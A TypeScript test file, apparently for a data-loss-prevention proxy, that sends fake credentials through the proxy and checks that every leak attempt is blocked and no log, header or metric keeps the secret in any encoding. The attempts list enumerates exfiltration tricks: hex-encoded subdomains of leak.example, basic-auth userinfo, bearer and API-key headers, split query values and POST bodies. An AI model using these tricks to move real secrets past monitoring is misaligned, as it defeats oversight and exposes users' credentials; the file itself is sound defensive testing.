// SPDX-License-Identifier: Apache-2.0
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import test from 'ava';
import { serve } from '../../support/served.js';
import {
  readEverything,
  removeFolder,
  startOrigin,
  stopOrigin,
  tempFolder,
  through,
  type Answer,
} from '../../support/product.js';
import type { Product } from '../../../enforce/runtime/product.js';

/** Secrets of several kinds: a shaped key, a token, a value only the environment knows, and a body credential. */
const SECRETS = {
  shaped: 'AKIAZ6QPLMXN4RTYWBVC',
  token: 'ghp_Qm7Zx2Lk9Vw4Rt8Yb3Nc6Hs1Jd5Gf0PaEuTi',
  environment: 'x7Kq9ZpL2mVt4RwB8nYc-Jd5Gf0Pa',
};

/** Every form in which a secret could survive: itself, its case variants and its common encodings. */
function formsOf(secret: string): readonly string[] {
  const bytes = Buffer.from(secret);
  return [
    secret,
    secret.toLowerCase(),
    secret.toUpperCase(),
    bytes.toString('base64').replace(/=+$/, ''),
    bytes.toString('base64url'),
    bytes.toString('hex'),
    bytes.toString('hex').toUpperCase(),
    [...bytes].map((byte) => `%${byte.toString(16)}`).join(''),
    Array.from(bytes, (byte) => String.fromCharCode(byte))
      .join('.')
      .toLowerCase(),
  ];
}

/** Ways an agent might send it. */
function attempts(site: string, secret: string): readonly [string, Parameters<typeof through>[2]?][] {
  const bytes = Buffer.from(secret);
  const percent = [...bytes].map((byte) => `%${byte.toString(16)}`).join('');
  return [
    [`${site}/?q=${encodeURIComponent(secret)}`],
    [`${site}/${encodeURIComponent(secret)}/x`],
    [`${site}/?${encodeURIComponent(secret)}=1`],
    [`${site}/?q=${bytes.toString('base64url')}`],
    [`${site}/${bytes.toString('hex')}`],
    [`${site}/${bytes.toString('hex').toUpperCase()}`],
    [`${site}/?q=${percent}`],
    [`${site}/x#${encodeURIComponent(secret)}`],
    [`${site}/?a=${encodeURIComponent(secret.slice(0, 9))}&b=${encodeURIComponent(secret.slice(9))}`],
    [`http://${bytes.toString('hex')}.leak.example/`],
    [`http://user:${encodeURIComponent(secret)}@127.0.0.1/`],
    [`${site}/`, { headers: { authorization: `Bearer ${secret}` } }],
    [`${site}/`, { headers: { 'x-api-key': secret } }],
    [
      `${site}/`,
      { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ k: secret }) },
    ],
    [`${site}/`, { method: 'POST', body: bytes.toString('base64') }],
    [`/fetch?url=${encodeURIComponent(`${site}/?q=${encodeURIComponent(secret)}`)}`],
  ];
}

test('a matched secret is in no log, header, error, metric or evidence file', async (t) => {
  const home = await tempFolder();
  const origin = await startOrigin((incoming, response) => {
    incoming.resume();
    response.end('ok');
  });
  const site = `http://127.0.0.1:${origin.port}`;
  const logFile = join(home, 'operator.log');
  const config = join(home, 'pipelock.yaml');
  await writeFile(
    config,
    [
      'version: 1',
      'forward_proxy: { enabled: true }',
      'fetch_proxy: { listen: "127.0.0.1:0", monitoring: { max_requests_per_minute: 0 } }',
      'ssrf: { ip_allowlist: [127.0.0.1/32] }',
      'request_body_scanning: { action: block, header_mode: all }',
      'flight_recorder: { require_receipts: true }',
      `logging: { output: file, file: "${logFile}" }`,
    ].join('\n'),
  );
  const environment = { PATH: process.env['PATH'], DEPLOY_TOKEN: SECRETS.environment };
  const served = await serve(['--config', config, '--home', home], environment);
  const product = { port: served.port } as Product;
  const answers: Answer[] = [];
  for (const secret of Object.values(SECRETS)) {
    for (const [target, sent] of attempts(site, secret)) answers.push(await through(product, target, sent));
  }
  const benign = await through(product, `${site}/?q=a-benign-value`);
  answers.push(await through(product, '/metrics'), await through(product, '/stats'), await through(product, '/health'));
  t.is(await served.stop(), 0);
  stopOrigin(origin);

  const seen = `${await readEverything(home)}\n${served.printed()}\n${answers.map((answer) => JSON.stringify(answer)).join('\n')}`;
  for (const [name, secret] of Object.entries(SECRETS)) {
    for (const form of formsOf(secret)) t.false(seen.includes(form), `${name} survives as ${form.slice(0, 4)}...`);
  }
  t.is(benign.status, 200);
  t.true(seen.includes('dlp_match'), 'the attempts were noticed at all');
  const passed = answers.slice(0, -3).filter(({ status }) => status === 200).length;
  t.is(passed, 0, 'every attempt was blocked');
  await removeFolder(home);
});
